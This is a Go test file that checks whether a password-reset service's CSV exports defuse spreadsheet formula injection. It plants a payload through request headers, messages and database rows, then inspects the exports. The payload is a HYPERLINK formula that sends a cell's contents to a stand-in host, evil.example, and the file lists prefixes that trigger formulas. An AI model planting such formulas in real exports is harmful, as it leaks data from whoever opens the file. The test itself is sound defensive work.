package threats

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// runs are how a cell begins that some spreadsheet takes for a formula, or
// drops before it looks again (OWASP, CSV Injection). In much of the world it is a
// semicolon that separates cells.
var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t="}

const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`

// Some of these can be typed, some only the application beside it can have put
// into its accounts. The record has them all, and so will an export.
func TestSpreadsheetFormulas(t *testing.T) {
	each(t, nil, func(s *service) {
		s.account(user)
		m := s.member("arno", "agent")
		for _, start := range runs {
			s.browser().with("User-Agent", strings.Trim(start+formula, "\r\n")).request(user).to("/password-reset/done")
			s.mails() // the request is matched
			m.send(s.newest(user), start+formula).is(http.StatusSeeOther)
			s.poison(s.newest(user), start+formula)
		}
		s.mails()
		for what, export := range map[string]string{
			"the page's": m.get("/support/resets.csv").is(http.StatusOK).body, "the command's": s.history("csv"),
		} {
			s.wantDefused(what, export)
		}
	})
}

// poison writes a text into every column of a reset that a stranger, an
// application or a member has a say in.
func (s *service) poison(id, text string) {
	s.Helper()
	quoted := `'` + strings.ReplaceAll(text, `'`, `''`) + `'`
	s.db.SQL(s.T, `UPDATE password_resets SET email = `+quoted+`, user_id = `+quoted+`, created_by_agent = `+quoted+`,
		used_at = created_at, used_by_ip = created_by_ip, used_by_agent = `+quoted+` WHERE id = '`+id+`'`)
}

// history is what the command prints of all resets.
func (s *service) history(format string) string {
	s.Helper()
	status, out, problems := s.command("history", "--limit", "0", "--format", format)
	if status != 0 {
		s.Fatalf("history: status %d\n%s", status, problems)
	}
	return out
}

func (s *service) wantDefused(what, export string) {
	s.Helper()
	rows, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	s.must(err)
	if want := 2*len(runs) + 1; len(rows) != want {
		s.Errorf("%s export has %d lines, want %d", what, len(rows), want)
	}
	found := 0
	for _, cell := range slices.Concat(rows...) {
		if slices.ContainsFunc(runs, func(start string) bool { return strings.HasPrefix(cell, start) }) {
			s.Errorf("%s export has a cell that runs: %q", what, cell)
		}
		if strings.Contains(cell, "HYPERLINK") {
			found++
		}
	}
	// Four columns of what is poisoned, and the agent that had asked before. What
	// a member gives as a reason is not in it.
	if want := 5 * len(runs); found != want {
		s.Errorf("%s export has %d cells of what was written, want %d", what, found, want)
	}
}
